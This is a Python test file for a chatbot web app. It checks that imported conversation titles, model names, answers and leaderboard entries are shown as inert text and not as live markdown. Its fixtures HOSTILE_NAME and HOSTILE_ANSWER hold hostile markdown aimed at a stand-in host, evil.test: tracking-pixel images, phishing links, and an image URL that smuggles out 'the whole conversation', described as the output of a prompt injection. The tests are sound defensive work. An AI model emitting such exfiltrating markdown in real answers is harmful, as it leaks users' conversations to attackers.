"""Text that the reader did not write (imported titles, model names, file names, answers) is drawn
as text, against the real chat API: no markdown link hides where it goes, no image loads.
(tests/browser/test_untrusted_text.py checks the same in Chromium, and that nothing is fetched.)"""

from __future__ import annotations

import json
import uuid

import httpx
from streamlit.testing.v1 import AppTest

from chatbot.api.local_tokens import local_secret
from chatbot.api.records import Lane, Message, Session
from chatbot.api.users import UsersFile
from chatbot.chat.transfer import ConversationsExport, ExportedConversation
from lambdas.chat_api.auth import LocalTokens
from streamlit_app.widgets import history
from tests.streamlit_app.markup import as_read, literal_autolinks, live_markup
from tests.streamlit_app.stack import UiStack
from tests.streamlit_app.test_leaderboard_page import open_leaderboard

EVIL = "http://evil.test"
#: A name as an attacker would choose it: an image that reports who looked, a link, emphasis.
HOSTILE_NAME = f"![pixel]({EVIL}/seen.png) [docs]({EVIL}/x) **urgent** www.evil.test"
#: An answer that a prompt injection wrote: the conversation leaks in the image's URL.
HOSTILE_ANSWER = (
    f"Sure. ![chart]({EVIL}/c.png?q=the+whole+conversation) See [the docs]({EVIL}/phish) "
    f"or ![ref][r].\n\n[r]: {EVIL}/r.png\n"
)


def hostile_comparison(user: str) -> bytes:
    """An export file (as anyone could hand over) of a comparison whose title, model and
    answers are all the attacker's."""
    session = Session(
        id=uuid.uuid4().hex,
        user_id=user,
        title=HOSTILE_NAME,
        kind="compare",
        lanes=[Lane(id="a", model=HOSTILE_NAME), Lane(id="b", model="smollm2-135m")],
    )
    messages = [
        Message(seq=1, role="user", content=f"Hello ![prompt]({EVIL}/p.png)"),
        Message(seq=2, role="assistant", lane="a", model=HOSTILE_NAME, content=HOSTILE_ANSWER, reply_to=1),
        Message(seq=3, role="assistant", lane="b", model="smollm2-135m", content="Hi.", reply_to=1),
    ]
    document = ConversationsExport(conversations=[ExportedConversation(session=session, messages=messages)])
    return document.model_dump_json().encode()


def token_for(stack: UiStack, user: str, *, admin: bool = False) -> str:
    roles = ("admin",) if admin else ()
    return LocalTokens(local_secret(stack.secret_file)).issue(user, roles=roles)


def drawn_markdown(app: AppTest) -> list[str]:
    """Everything the page drew that Streamlit renders as markdown: texts, alerts, captions and
    the labels of buttons and expanders, in the main area and the sidebar."""
    texts = [
        str(element.value)
        for kind in ("markdown", "caption", "success", "info", "warning", "error", "toast")
        for element in app.get(kind)
    ]
    labels = [str(element.label) for kind in ("button", "expander") for element in app.get(kind)]
    sidebar = [str(button.label) for button in app.sidebar.button]
    return texts + labels + sidebar


def test_an_imported_comparison_shows_its_title_models_and_answers_as_text(
    signed_in: AppTest, stack: UiStack
):
    user = signed_in.session_state["auth_identity"].user_id
    imported = httpx.post(
        f"{stack.api_url}/sessions/import",
        content=hostile_comparison(user),
        headers={"Authorization": f"Bearer {token_for(stack, user)}", "Content-Type": "application/json"},
        timeout=60,
    )
    assert imported.status_code == 200, imported.text
    del signed_in.session_state[history.KEY_SESSIONS]  # the sidebar reads the history again
    app = signed_in.run()
    opener = next(button for button in app.sidebar.button if button.key.startswith("hist_open_"))
    assert as_read(opener.label) == " ".join(HOSTILE_NAME.split())  # the title, word for word
    app = opener.click().run()
    app = app.run()  # the chat page hands a comparison over to the compare page
    assert not app.exception

    drawn = drawn_markdown(app)
    assert {text: live_markup(text) for text in drawn if live_markup(text)} == {}
    header = next(text for text in drawn if text.startswith("**Model A**"))
    assert as_read(header) == f"**Model A** · {HOSTILE_NAME}"
    assert literal_autolinks(header) == []  # a name links to nothing, not even its own text
    answer = next(text for text in drawn if text.startswith("Sure."))
    assert "\\[image: chart\\]" in answer  # the image in words, with its address beside it
    assert "the docs (" in answer


def test_a_model_name_from_a_battles_file_is_text_on_the_leaderboard(signed_in: AppTest, stack: UiStack):
    UsersFile(stack.users_file).add("root", "roots password", admin=True)
    battles = "".join(
        json.dumps(
            {
                "question_id": f"hostile-{index}#1",
                "model_a": HOSTILE_NAME,
                "model_b": "smollm2-135m",
                "winner": "model_a",
                "judge": f"judge-{index}",
                "tstamp": 1764583200.0 + index,
                "turn": 1,
                "session_id": f"hostile-{index}",
                "round": 1,
                "choice": "left",
                "models": [HOSTILE_NAME, "smollm2-135m"],
                "lanes": ["a", "b"],
                "created_at": "2026-12-01T09:00:00+00:00",
            }
        )
        + "\n"
        for index in range(3)
    )
    imported = httpx.post(
        f"{stack.api_url}/admin/battles",
        content=battles,
        headers={"Authorization": f"Bearer {token_for(stack, 'root', admin=True)}"},
        timeout=60,
    )
    assert imported.status_code == 200, imported.text

    app = open_leaderboard(signed_in)
    assert not app.exception
    assert HOSTILE_NAME in set(app.dataframe[0].value["Model"])  # a table cell is text already
    drawn = drawn_markdown(app)
    named = [text for text in drawn if "pixel" in text]
    assert named, "the leaderboard names the top model in words too"
    assert {text: live_markup(text) for text in named if live_markup(text)} == {}
    assert [literal_autolinks(text) for text in named] == [[] for _ in named]
